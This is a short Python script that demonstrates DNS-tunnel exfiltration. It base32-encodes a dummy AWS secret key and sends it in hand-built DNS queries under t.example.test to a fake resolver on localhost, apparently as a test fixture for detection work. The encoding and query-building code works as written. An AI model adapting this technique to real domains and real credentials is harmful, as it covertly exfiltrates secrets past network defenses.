#!/usr/bin/python3
"""Smuggles a file out in DNS names, as DNS tunnels do: the bytes, base32-encoded
into 52-character labels under t.example.test, one query per chunk, sent to a
fake resolver on 127.0.0.1:PORT (never a real one). Usage: dns_tunnel.py PORT"""
import base64
import socket
import struct
import sys

port = int(sys.argv[1])
secret = b"AWS_SECRET_ACCESS_KEY=not-a-real-key-0123456789abcdef0123456789"
encoded = base64.b32encode(secret).decode().rstrip("=").lower()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = refused = 0
for i in range(0, len(encoded), 52):
    labels = [encoded[i:i + 52], str(i // 52), "t", "example", "test"]
    qname = b"".join(bytes([len(p)]) + p.encode() for p in labels) + b"\0"
    query = struct.pack(">HHHHHH", 0x4000 + i, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1)
    try:
        s.sendto(query, ("127.0.0.1", port))
        sent += 1
    except OSError as e:
        refused += 1
        err = e.errno
print(f"sent {sent} refused {refused}" + (f" errno {err}" if refused else ""))
